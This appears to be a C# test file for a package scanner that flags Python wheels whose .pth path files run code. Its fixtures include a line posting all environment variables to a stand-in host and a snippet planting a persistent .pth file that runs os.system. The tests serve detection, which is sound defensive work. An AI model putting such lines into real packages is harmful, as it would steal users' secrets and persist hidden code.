using PackageWall.Inspection.Reports;
using PackageWall.Packages;
using PackageWall.Testing.Packages;

namespace PackageWall.Inspection.Tests.Catalogue;

/// <summary>Adding a folder to the search path stays for as long as the program runs; the lines of its path files run at once.</summary>
public sealed class SiteFolderTests
{
    private const string Adds = "import os, site\nsite.addsitedir(os.path.join(os.path.dirname(__file__), 'lib'))\n";
    private const string Sends = "import os, json, urllib.request; urllib.request.urlopen('https://collect.invalid/x', data=json.dumps(dict(os.environ)).encode())\n";

    private static Verdict Wheel(string module, string path) => CatalogueInspection.Of(
        Ecosystem.PyPi, "sample-1.0.0-py3-none-any.whl", new WheelBuilder("sample", "1.0.0").File("sample/__init__.py", module).File("sample/lib/extra.pth", path).Build()).Verdict;

    [Fact]
    public void A_folder_is_added_for_the_running_program() => Wheel(Adds, "../vendored\n").ShouldBe(Verdict.Clean);

    [Theory]
    [InlineData(Adds)]
    [InlineData("import site, sys\nsite.addsitedir(sys.argv[1])\n")]
    [InlineData("from site import addsitedir as add\nadd('x')\n")]
    [InlineData("import os, site\nsite.addpackage(os.path.dirname(__file__), 'lib/extra.pth', set())\n")]
    public void The_lines_that_it_runs_are_the_callers(string module) => Wheel(module, Sends).ShouldBe(Verdict.Malicious);

    [Fact]
    public void Lines_that_nobody_runs_do_not() => Wheel("import os\n", Sends).ShouldNotBe(Verdict.Malicious);

    [Fact]
    public void A_path_file_that_is_written_stays() =>
        Wheel("import site\nopen(site.getsitepackages()[0] + '/x.pth', 'w').write('import os; os.system(\"id\")')\n", "../vendored\n").ShouldBe(Verdict.Malicious);
}
